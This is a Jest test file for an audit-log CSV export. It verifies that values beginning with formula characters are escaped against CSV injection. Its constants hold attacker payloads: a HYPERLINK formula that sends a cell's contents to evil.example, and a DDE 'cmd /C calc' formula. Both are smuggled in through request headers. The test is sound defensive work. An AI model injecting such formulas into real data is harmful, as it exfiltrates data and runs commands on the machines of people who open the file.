import { parseCsv } from '../testing/csv';
import { CAST, expectSuccess } from '../testing/seededOrganization';
import { asText, JuanieTestBackend, startJuanieTestBackend } from '../testing/testBackend';
import { createJuanieTestDatabases } from '../testing/testDatabases';

jest.setTimeout(60_000);

/** What an attacker sends so that the admin's spreadsheet runs it when opening the export. */
const USER_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const REQUEST_ID = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe('audit export (OWASP CSV injection)', () => {
  const databases = createJuanieTestDatabases();

  describe.each(databases.eachSupportedId())('on %s', databaseId => {
    let backend: JuanieTestBackend;

    beforeAll(async () => {
      backend = await startJuanieTestBackend(await databases.init(databaseId));
    });
    afterAll(() => backend.stop());

    it('audit export: formula cells from a User-Agent and x-request-id are escaped', async () => {
      expectSuccess(
        await backend
          .as('mallory')
          .post('/orgs', { slug: 'formulas', title: 'Formulas' })
          .set('User-Agent', USER_AGENT)
          .set('x-request-id', REQUEST_ID),
        'create formulas',
      );

      const response = await backend
        .as(CAST.platformAdmin)
        .get('/audit/export?format=csv&org=formulas')
        .parse(asText);

      expect(response.status).toBe(200);
      const rows = parseCsv(response.body);
      const created = rows.find(row => row.action === 'organization.create');
      expect(created).toMatchObject({ userAgent: `'${USER_AGENT}`, requestId: `'${REQUEST_ID}` });
      // The CSV writer still quotes the escaped cells.
      expect(response.body).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    });

    it('audit export: every cell that starts like a formula opens as text', async () => {
      for (const [i, start] of ['=', '+', '-', '@'].entries()) {
        expectSuccess(
          await backend
            .as('mallory')
            .post('/orgs', { slug: `formula-${i}`, title: 'Formula' })
            .set('User-Agent', `${start}1+2`),
          `create formula-${i}`,
        );
      }

      const response = await backend
        .as(CAST.platformAdmin)
        .get('/audit/export?format=csv&actor=user:default/mallory')
        .parse(asText);

      const agents = parseCsv(response.body).map(row => row.userAgent);
      expect(agents).toEqual(expect.arrayContaining(["'=1+2", "'+1+2", "'-1+2", "'@1+2"]));
      for (const row of parseCsv(response.body)) {
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });
  });
});
